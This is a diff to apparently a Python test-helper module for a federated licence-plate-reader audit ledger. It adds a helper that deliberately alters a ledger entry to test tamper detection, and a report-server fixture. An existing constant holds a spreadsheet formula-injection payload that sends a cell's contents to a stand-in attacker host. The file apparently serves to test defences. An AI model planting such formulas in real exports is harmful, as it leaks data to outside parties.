@@ -15,12 +15,21 @@ from contextlib import closing
 from dataclasses import dataclass
 from pathlib import Path
 
+import sqlalchemy as sa
 from federations import SUSPECT, Federation, start_federation, stop_federation
 
 from agency_node.purge_delivery import PurgeReportDelivery
 from agency_node.storage import NodeStore
+from alprfed.clock import SYSTEM_CLOCK
 from alprfed.config import load_node_config
+from alprfed.db import writer
+from alprfed.ledger import iter_entries, schema
+from alprfed.ledger.note import NoteVerifier
+from alprfed.ledger.reader import LedgerReader
+from alprfed.ledger.witness_policy import WitnessPolicy
 from alprfed.models import Purpose
+from alprfed.report import compile_report, render_site, write_site
+from alprfed.report.serve import ReportServer
 
 FORMULA_CASE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
@@ -57,6 +66,45 @@ class BuiltLedger:
         return f"sqlite:///{target}"
 
 
+def tamper_first_decision(url: str) -> int:
+    """Change one byte of the ledger's first query decision (who asked), as someone with
+    write access to the database would; returns the entry's index."""
+    reader = LedgerReader.open_readonly(url)
+    try:
+        index = next(iter(iter_entries(reader, kinds=["query_decision"]))).index
+    finally:
+        reader.close()
+    engine = sa.create_engine(url)
+    try:
+        with writer(engine).begin() as conn:
+            data = conn.execute(
+                sa.select(schema.entries.c.data).where(schema.entries.c.idx == index)
+            ).scalar_one()
+            changed = data.replace(b'"sjpd"', b'"sjpe"', 1)
+            assert changed != data
+            conn.execute(
+                sa.update(schema.entries).where(schema.entries.c.idx == index).values(data=changed)
+            )
+    finally:
+        engine.dispose()
+    return index
+
+
+def serve_report(
+    url: str, out: Path, verifiers: list[NoteVerifier], policy: WitnessPolicy | None
+) -> tuple[ReportServer, LedgerReader]:
+    """`alprfed report serve`'s server over the ledger at ``url``, started (it has built once)
+    and polling only once an hour, so a test decides when it looks again (``refresh``)."""
+    reader = LedgerReader.open_readonly(url)
+
+    def rebuild() -> None:
+        compiled = compile_report(reader, verifiers, witness_policy=policy, clock=SYSTEM_CLOCK)
+        write_site(render_site(compiled), out)
+
+    server = ReportServer(out, rebuild=rebuild, latest=reader.latest_checkpoint, poll_s=3600)
+    return server.start(), reader
+
+
 def _deliver_purges(federation: Federation, agency: str) -> None:
     config = load_node_config(federation.layout.node_config(agency))
     with NodeStore.open(config.database_url) as store:
@@ -91,4 +139,11 @@ def build_ledger(root: Path) -> BuiltLedger:
     return BuiltLedger(federation, exigent.query_id, warrant)
 
 
-__all__ = ["FORMULA_CASE", "SUSPECT", "BuiltLedger", "build_ledger"]
+__all__ = [
+    "FORMULA_CASE",
+    "SUSPECT",
+    "BuiltLedger",
+    "build_ledger",
+    "serve_report",
+    "tamper_first_decision",
+]
